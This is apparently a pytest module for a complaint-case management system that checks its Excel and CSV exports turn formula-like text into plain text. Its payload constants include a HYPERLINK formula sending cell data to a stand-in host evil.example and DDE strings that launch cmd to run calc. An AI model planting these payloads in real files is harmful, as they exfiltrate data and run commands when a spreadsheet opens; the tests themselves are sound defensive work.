"""Issue 16.7: text that begins like a formula — a typical case's write-up, a 12315 row's number, a unit's name —
must reach Excel and CSV files as text, never as a formula that runs when the file is opened.

The attack: the payloads below, entered where a user (or a platform export) can enter text; then the files the
system writes are opened as a spreadsheet program would open them."""

import csv
import io

import pytest
import time_machine
from openpyxl import Workbook, load_workbook

from tests.stats import conftest as stats_fixtures
from tests.stats.test_pages import browser
from tests.web.test_pages import login
from xiaobao.cases.models import Case
from xiaobao.intake.importer import import_file
from xiaobao.intake.sample import HEADERS
from xiaobao.lib.spreadsheets import csv_text
from xiaobao.units.models import Staff, Unit

# The statistics tests' small March 2026 (five items through API v1), as fixtures of this module too.
clock, march = stats_fixtures.clock, stats_fixtures.march

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1")


def _typical_cases(march, first: str, second: str) -> None:
    nanjiao = browser("nanjiao")
    r = nanjiao.post("/stats/submission/?month=2026-03&unit=st-nanjiao",
                     {"typical": [str(march.a), str(march.b)], f"write_up_{march.a}": first,
                      f"write_up_{march.b}": second, "note": ""})
    assert r.status_code in (200, 302)


def _write_up_cells(content: bytes) -> dict:
    sheet = load_workbook(io.BytesIO(content))["典型案例"]
    return {row[1].value: row[4] for row in sheet.iter_rows(min_row=4)}


def _assert_text(cell, text: str) -> None:
    assert cell.data_type == "s" and cell.value == text  # not "f": a formula would run on opening
    assert cell.quotePrefix  # and stays text when someone edits the cell


def test_a_typical_cases_write_up_is_text_in_the_monthly_workbook_page_and_api(march, api):
    _typical_cases(march, HYPERLINK, DDE)
    a, b = (Case.objects.get(pk=pk).number for pk in (march.a, march.b))
    page = browser("xiaobao").get("/stats/monthly.xlsx", {"month": "2026-03"})
    from_api = api("xiaobao").get("/api/v1/stats/monthly", month="2026-03", format="xlsx")
    for r in (page, from_api):
        assert r.status_code == 200
        cells = _write_up_cells(r.content)
        _assert_text(cells[a], HYPERLINK)
        _assert_text(cells[b], DDE)


@time_machine.travel("2026-11-25 10:00 +0800", tick=False)
def test_a_12315_rows_number_is_text_in_the_error_report(bureau):
    wb = Workbook()
    wb.active.append(HEADERS)
    row = dict.fromkeys(HEADERS, "")
    row.update({"登记编号": HYPERLINK, "登记时间": "2026-11-01 09:30", "类型": "建议"})
    wb.active.append([row[h] for h in HEADERS])
    wb.active["A2"].data_type = "s"  # text in the platform's export, as the platform writes it
    out = io.BytesIO()
    wb.save(out)
    run = import_file(actor=Staff.objects.get(username="xiaobao"), file_name="x.xlsx", data=out.getvalue())
    assert run.failed == 1 and run.errors[0]["external_id"] == HYPERLINK

    r = login("xiaobao").get(f"/intake/import/{run.pk}/errors.xlsx")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    _assert_text(sheet["B2"], HYPERLINK)


def test_a_units_name_is_text_in_the_dashboards_csv(march):
    name = "=1+cmd|'/C calc'!A0"  # a unit's short name holds 20 characters
    Unit.objects.filter(code="st-nanjiao").update(short_name=name)
    r = browser("xiaobao").get("/stats/dashboard/unit.csv", {"month": "2026-03"})
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8").removeprefix("\ufeff"))))
    assert ["'" + name, "3", "0", "0"] in rows


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised_in_csv_and_numbers_stay_numbers(payload):
    (field, number, plain), = csv.reader(io.StringIO(csv_text([[payload, -5, "南郊所"]])))
    assert field == "'" + payload and number == "-5" and plain == "南郊所"
